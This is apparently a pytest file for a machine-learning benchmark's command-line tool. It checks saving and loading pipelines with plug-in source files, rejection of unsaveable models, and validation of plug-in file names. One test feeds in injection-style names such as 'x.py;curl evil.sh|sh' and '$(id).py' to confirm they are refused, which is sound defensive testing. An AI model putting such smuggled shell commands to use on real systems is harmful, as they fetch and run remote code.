"""Pipelines with plug-ins are saved with their source and loaded only with the same file."""

import json
import zipfile
from dataclasses import replace

import numpy as np
import pytest
from PIL import Image

from benchmark.errors import UserError
from benchmark.pipelines import file, saving
from benchmark.pipelines.pipeline import fit_pipeline
from benchmark.pipelines.rehearsal import rehearse_saving
from benchmark.pipelines.sources import match_plugin_files
from benchmark.plugins.registry import resolve_spec
from benchmark.plugins.spec import Spec

NETS = """
import numpy as np
from sklearn.base import BaseEstimator, ClassifierMixin
from models.network_classifier import NetworkClassifier


class Tiny(NetworkClassifier):
    def __init__(
        self,
        epochs=1,
        learning_rate=1e-3,
        optimizer="adam",
        weight_decay=0.0,
        batch_size=32,
        schedule="constant",
        augmentation=(),
        label_smoothing=0.0,
        ema=None,
        validation=0.0,
        patience=None,
        loss="cross_entropy",
        class_weight=None,
        deferred_reweighting=False,
        two_phase=False,
        compile=False,
        device="auto",
        random_state=None,
    ):
        parameters = {**locals()}
        for name in ("self", "__class__"):
            del parameters[name]
        super().__init__(**parameters)

    def make_body(self, images):
        from torch import nn
        from models.network import Body, Pixels
        conv = nn.Conv2d(images.shape[3], 4, 3)
        layers = [conv, nn.ReLU(), nn.AdaptiveAvgPool2d(2), nn.Flatten()]
        return Body(nn.Sequential(*layers), 16, Pixels())


class Raw(ClassifierMixin, BaseEstimator):
    takes = "images"

    def __init__(self, epochs=1):
        self.epochs = epochs

    def fit(self, X, y):
        from torch import nn
        if len(X) > 100:
            raise AssertionError("the whole training was begun")
        self.classes_ = np.unique(y)
        self.net_ = nn.Linear(X[0].size, len(self.classes_))
        return self

    def predict_proba(self, X):
        import torch
        with torch.no_grad():
            logits = self.net_(torch.tensor(X.reshape(len(X), -1)).float())
            return torch.softmax(logits, dim=1).double().numpy()
"""
CLASSICAL = '''
import numpy as np
from features.base import Extractor
from sklearn.base import BaseEstimator, ClassifierMixin
from sklearn.naive_bayes import GaussianNB


class MyMeans(Extractor):
    stateless = False

    def learn(self, images):
        self.mean_ = images.mean(axis=0)

    def extract(self, batch):
        return (batch - self.mean_).reshape(len(batch), -1)


class Forgetful(ClassifierMixin, BaseEstimator):
    """Keeps what it has learned in a lambda, which cannot be stored."""

    def fit(self, X, y):
        if len(X) > 100:
            raise AssertionError("the whole training was begun")
        self.classes_ = np.unique(y)
        self.inner_ = lambda X: np.full((len(X), len(self.classes_)), 1 / len(self.classes_))
        return self

    def predict_proba(self, X):
        return self.inner_(X)
'''
KEEPERS = """
import numpy as np
from sklearn.base import BaseEstimator, ClassifierMixin, clone
from sklearn.calibration import CalibratedClassifierCV
from sklearn.decomposition import FastICA, TruncatedSVD
from sklearn.discriminant_analysis import LinearDiscriminantAnalysis, QuadraticDiscriminantAnalysis
from sklearn.ensemble import BaggingClassifier, ExtraTreesClassifier, GradientBoostingClassifier
from sklearn.linear_model import LogisticRegression, RidgeClassifier, SGDClassifier
from sklearn.multiclass import OneVsRestClassifier
from sklearn.naive_bayes import BernoulliNB, ComplementNB, GaussianNB
from sklearn.neural_network import MLPClassifier
from sklearn.pipeline import Pipeline, make_pipeline
from sklearn.preprocessing import MaxAbsScaler, Normalizer, PowerTransformer, RobustScaler
from sklearn.svm import LinearSVC

LEARNED = {}


class _Wraps(ClassifierMixin, BaseEstimator):
    def fit(self, X, y):
        self.inner_ = clone(self.made()).fit(X, y)
        self.classes_ = self.inner_.classes_
        return self

    def made(self):
        return GaussianNB()

    def predict_proba(self, X):
        return self.inner_.predict_proba(X)


class InClass(_Wraps):
    learned = None

    def fit(self, X, y):
        super().fit(X, y)
        InClass.learned = self.inner_
        del self.inner_
        return self

    def predict_proba(self, X):
        return InClass.learned.predict_proba(X)


class InGlobal(_Wraps):
    def fit(self, X, y):
        super().fit(X, y)
        LEARNED["scale"] = X.std()
        return self

    def predict_proba(self, X):
        return super().predict_proba(X) if "scale" in LEARNED else np.full((len(X), 10), 0.1)


class Draws(_Wraps):
    def fit(self, X, y):
        super().fit(X, y)
        self.random_ = np.random.default_rng(0)
        return self

    def predict_proba(self, X):
        self.random_.random()
        return super().predict_proba(X)


class Plain(_Wraps):
    def fit(self, X, y):
        super().fit(X, y)
        self.attributes_ = {
            1: "a",
            2.5: {1, 2},
            "text": b"bytes",
            np.int64(7): (None, True, float("nan")),
            np.float32(0.5): set(),
        }
        return self

    def predict_proba(self, X):
        assert self.attributes_[2.5] == {1, 2}
        assert self.attributes_["text"] == b"bytes"
        assert 7 in self.attributes_
        return super().predict_proba(X)


class Dated(_Wraps):
    def fit(self, X, y):
        import datetime
        self.when_ = datetime.date.today()
        return super().fit(X, y)


class Objects(_Wraps):
    def fit(self, X, y):
        self.names_ = np.array(["a", None], dtype=object)
        return super().fit(X, y)


class Boosted(_Wraps):
    def made(self):
        return GradientBoostingClassifier(n_estimators=1)


class Parallel(_Wraps):
    def made(self):
        return ExtraTreesClassifier(2, n_jobs=2)


ESTIMATORS = [
    LinearDiscriminantAnalysis(), LinearDiscriminantAnalysis(solver="lsqr", shrinkage="auto"),
    QuadraticDiscriminantAnalysis(solver="eigen", shrinkage=0.5),
    MLPClassifier((5,), max_iter=5),
    MLPClassifier((5,), max_iter=5, solver="sgd", early_stopping=True),
    MLPClassifier((5,), max_iter=5, solver="lbfgs"), ExtraTreesClassifier(2),
    BaggingClassifier(n_estimators=2, max_features=0.5),
    GaussianNB(var_smoothing=0.1), BernoulliNB(), ComplementNB(), SGDClassifier(loss="log_loss"),
    CalibratedClassifierCV(LinearSVC(), cv=2), CalibratedClassifierCV(RidgeClassifier(), cv=2),
    OneVsRestClassifier(GaussianNB(var_smoothing=0.1)),
    make_pipeline(
        MaxAbsScaler(), RobustScaler(), PowerTransformer(), Normalizer(), TruncatedSVD(5),
        LogisticRegression(),
    ),
    make_pipeline(FastICA(3), GaussianNB()),
]


class Any(_Wraps):
    def __init__(self, k=0):
        self.k = k

    def made(self):
        return ESTIMATORS[self.k]
"""


@pytest.fixture
def folder(tmp_path, monkeypatch, digits):
    """Current folder, with three plug-in files and an image."""
    (tmp_path / "nets.py").write_text(NETS)
    (tmp_path / "mine.py").write_text(CLASSICAL)
    (tmp_path / "keepers.py").write_text(KEEPERS)
    Image.fromarray(digits.images[0, ..., 0]).save(tmp_path / "zero.png")
    monkeypatch.chdir(tmp_path)
    return tmp_path


@pytest.mark.parametrize(
    ("file", "arguments"),
    [
        ("mine.py", ["--extractor", "my_means", "--model", "knn"]),
        ("mine.py", ["--extractor", "mine.py:MyMeans + hog", "--model", "knn"]),
        ("mine.py", ["--extractor", "pca(extractor=my_means, n_components=5)", "--model", "knn"]),
        pytest.param("nets.py", ["--model", "tiny"], marks=pytest.mark.slow),
        pytest.param(
            "nets.py",
            ["--extractor", "cnn_embedding(estimator=tiny)", "--model", "knn"],
            marks=pytest.mark.slow,
        ),
    ],
)
def test_a_pipeline_with_a_plug_in_is_saved_and_predicts(file, arguments, folder, command):
    output = command(
        "fit", "--dataset", "digits", *arguments, "--plugin", file, "--save", "it.pipeline"
    )
    assert f"--plugin {folder / file}" in output.out
    with zipfile.ZipFile("it.pipeline") as archive:
        assert archive.read(f"plugins/{file}") == (folder / file).read_bytes()
    (record,) = json.loads(
        command("predict", "it.pipeline", "zero.png", "--plugin", file, "--format", "json").out
    )
    assert np.isclose(sum(record["probabilities"].values()), 1)


def test_a_missing_plug_in_is_named_in_a_line_and_never_run_from_the_file(folder, command):
    command(
        "fit",
        "--dataset",
        "digits",
        "--extractor",
        "my_means",
        "--model",
        "knn",
        "--plugin",
        "mine.py",
        "--save",
        "it.pipeline",
    )
    output = command("predict", "it.pipeline", "zero.png", expect=2).err
    assert "it.pipeline needs its plug-in: add --plugin mine.py" in output
    assert len(output.strip().splitlines()) == 1
    (folder / "mine.py").write_text(CLASSICAL + "\nraise SystemExit('it was run')\n")
    output = command("predict", "it.pipeline", "zero.png", "--plugin", "mine.py", expect=2).err
    assert "was trained with another version of mine.py" in output
    assert "it was run" not in output
    (folder / "copy.py").write_text(CLASSICAL)
    assert (
        "must be named mine.py"
        in command("predict", "it.pipeline", "zero.png", "--plugin", "copy.py", expect=2).err
    )
    assert (
        "no plug-in file nowhere.py"
        in command("predict", "it.pipeline", "zero.png", "--plugin", "nowhere.py", expect=2).err
    )


@pytest.mark.parametrize(
    ("file", "arguments", "words"),
    [
        ("nets.py", ["--model", "raw"], "Raw.net_ belongs to torch: "),
        (
            "mine.py",
            ["--model", "forgetful", "--extractor", "pixels"],
            "cannot be saved: it contains <lambda> of the plug-in mine.py",
        ),
        *(
            ("keepers.py", ["--model", model, "--extractor", "pixels"], words)
            for model, words in (
                (
                    "in_class",
                    "in a new process, it does not predict (AttributeError: 'NoneType' object has "
                    "no attribute 'predict_proba'); fit",
                ),
                (
                    "in_global",
                    "in a new process, its predictions differ; fit and learn must keep all that "
                    "they learn in attributes of the object",
                ),
                (
                    "draws",
                    "a file does not store random generators: draw random numbers in fit or learn "
                    "only",
                ),
                (
                    "dated",
                    "contains datetime.date, a type that is not trusted; a pipeline's file can "
                    "store numbers, text",
                ),
                (
                    "objects",
                    "one of its arrays contains Python objects; a pipeline's file can store",
                ),
                (
                    "boosted",
                    "GradientBoostingClassifier, a type that is not trusted; a pipeline's file can "
                    "store",
                ),
                ("parallel", "its ExtraTreesClassifier has n_jobs=2; set n_jobs=None"),
            )
        ),
    ],
)
def test_a_pipeline_that_cannot_be_saved_is_refused_before_the_training(
    file, arguments, words, folder, command
):
    output = command(
        "fit",
        "--dataset",
        "digits",
        *arguments,
        "--plugin",
        file,
        "--save",
        "it.pipeline",
        expect=2,
    ).err
    assert words in output
    assert "the whole training was begun" not in output
    assert len(output.strip().splitlines()) == 1
    assert not (folder / "it.pipeline").exists()


def test_plain_attributes_are_loaded_unchanged(folder, command):
    command(
        "fit",
        "--dataset",
        "digits",
        "--extractor",
        "pixels",
        "--model",
        "plain",
        "--plugin",
        "keepers.py",
        "--save",
        "it.pipeline",
    )


@pytest.mark.parametrize("k", range(17))
def test_estimators_inside_a_plug_in_are_loaded_unchanged(k, folder, digits, make_cell):
    target = resolve_spec("model", Spec.parse(f"{folder / 'keepers.py'}:Any(k={k})"))
    cell = make_cell(digits, split="holdout")
    pipeline = fit_pipeline(replace(cell, values={**cell.values, "model": target}), digits)
    again = file.deserialize_pipeline(
        file.serialize_pipeline(pipeline), "it.pipeline", [str(folder / "keepers.py")]
    )
    np.testing.assert_allclose(
        again.predict_proba(digits.images), pipeline.predict_proba(digits.images), atol=1e-5
    )


def test_saving_is_rehearsed_for_components_with_components_inside(digits, make_cell, monkeypatch):
    names = []
    monkeypatch.setattr(
        saving, "serialize_and_verify", lambda pipeline, *_: names.append(pipeline.card.model)
    )
    for model in ("knn", "one_vs_rest(estimator=knn)"):
        rehearse_saving(make_cell(digits, model=model, split="holdout"), digits)
    assert names == ["one_vs_rest(estimator=knn)"]


@pytest.mark.parametrize(
    "name", ["x.py;curl evil.sh|sh", "../x.py", "a b.py", "x" * 60_000 + ".py", "$(id).py", "x.sh"]
)
def test_an_unsafe_name_of_a_plug_in_is_not_printed_in_a_command(name):
    with pytest.raises(UserError, match=r"is not a valid name of a plug-in file") as caught:
        match_plugin_files({name: b"text"}, [], "it.pipeline")
    assert "unzip" not in str(caught.value)
    assert len(str(caught.value)) < 500


def test_printed_commands_quote_the_name_of_the_file():
    with pytest.raises(UserError, match=r"unzip -p 'my model\(1\)\.pipeline' plugins/mine\.py"):
        match_plugin_files({"mine.py": b"text"}, [], "my model(1).pipeline")
